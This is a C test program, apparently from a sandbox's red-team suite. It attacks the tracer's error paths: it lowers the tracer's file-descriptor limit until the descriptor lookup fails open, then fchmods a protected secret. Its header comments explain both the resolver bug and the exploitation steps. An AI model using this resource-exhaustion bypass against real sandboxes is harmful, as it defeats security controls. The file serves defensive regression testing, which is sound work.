/* fd_limit.c: a call on a descriptor of a refused file, made while the tracer is out of
 * descriptors (issue 11, red team 38; class 6, attacks on the tracer -- its error paths).
 *
 * A call that acts on a descriptor (fchmod, fchown, fsetxattr, utimensat(fd, NULL)...) is
 * decided on the file the descriptor holds: the resolver (paths.PathResolver.descriptor)
 * names it from /proc/TID/fd/N.  Once the resolver is "strict" -- from the first call that
 * may change a view (unshare(0) is one, and changes nothing) -- it opens /proc/TID/root and
 * the descriptor's magic link to name it, and took ANY failure of those opens for "no such
 * descriptor": the pseudo name "fd:N", which no path rule matches.  prlimit64 on the
 * tracer's pid is permitted (a denial of service: docs/security.md), so the program lowers
 * the tracer's RLIMIT_NOFILE, going down from 64 (the limit put back after each try), and
 * fchmods a descriptor of the secret it opened for reading (permitted: the policy refuses
 * only writes) at each limit.  Where the opens fail EMFILE, the fchmod was decided on
 * "fd:N" -- permitted -- and changed the secret's mode.
 *
 *   fd_limit fchmod SECRET   ESCAPED when the secret's mode changed, else BLOCKED
 *                            (natively: no tracer, the fchmod changes it at once)
 */
#include "attack.h"
#include <sched.h>
#include <sys/resource.h>

int main(int argc, char **argv) {
    if (argc < 3 || strcmp(argv[1], "fchmod"))
        blocked("usage: fd_limit fchmod SECRET");
    int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        blocked("open %s for reading: %s", argv[2], ename(errno));
    struct stat before;
    if (fstat(fd, &before) < 0)
        blocked("fstat: %s", ename(errno));
    mode_t changed = (before.st_mode & 07777) ^ 0004;
    if (unshare(0) < 0)  /* (a call that may change a view: the resolver is strict from now) */
        note("unshare(0): %s", ename(errno));
    pid_t tracer = tracer_pid();
    note("tracer %d", (int)tracer);
    /* FD_LIMIT_OUTSIDE=1: the tree may not set its tracer's limits (prlimit64 of the tracer:
     * EPERM), so a process outside it does -- asked on stdout ("lower N", "restore"), done
     * when it answers a line on stdin: the tracer's own look at the descriptor still meets
     * its limit */
    int outside = getenv("FD_LIMIT_OUTSIDE") != NULL;
    char line[64];
    if (outside) {
        for (int limit = 64; limit >= 0; limit--) {
            printf("lower %d\n", limit);
            fflush(stdout);
            if (!fgets(line, sizeof line, stdin))
                blocked("no answer from outside");
            int rc = fchmod(fd, changed);
            int err = errno;
            printf("restore\n");
            fflush(stdout);
            if (!fgets(line, sizeof line, stdin))
                blocked("no answer from outside");
            struct stat now;
            if (fstat(fd, &now) == 0 && (now.st_mode & 07777) == changed)
                escaped("the secret's mode changed through its descriptor (fchmod %d) at the "
                        "tracer's limit %d", rc, limit);
            if (limit % 16 == 0)
                note("limit %d: fchmod %s", limit, rc < 0 ? ename(err) : "0");
        }
        blocked("no fchmod changed the secret");
    }
    struct rlimit old = {0, 0};
    if (tracer > 0 && prlimit(tracer, RLIMIT_NOFILE, NULL, &old) < 0)
        blocked("prlimit of the tracer %d: %s", (int)tracer, ename(errno));
    for (int limit = 64; limit >= 0; limit--) {
        struct rlimit lowered = {(rlim_t)limit, old.rlim_max};
        if (tracer > 0 && prlimit(tracer, RLIMIT_NOFILE, &lowered, NULL) < 0)
            blocked("prlimit of the tracer %d: %s", (int)tracer, ename(errno));
        int rc = fchmod(fd, changed);
        int err = errno;
        if (tracer > 0)
            prlimit(tracer, RLIMIT_NOFILE, &old, NULL);
        struct stat now;
        if (fstat(fd, &now) == 0 && (now.st_mode & 07777) == changed)
            escaped("the secret's mode changed through its descriptor (fchmod %d) at the "
                    "tracer's limit %d", rc, limit);
        if (limit % 16 == 0)
            note("limit %d: fchmod %s", limit, rc < 0 ? ename(err) : "0");
    }
    blocked("no fchmod changed the secret");
}
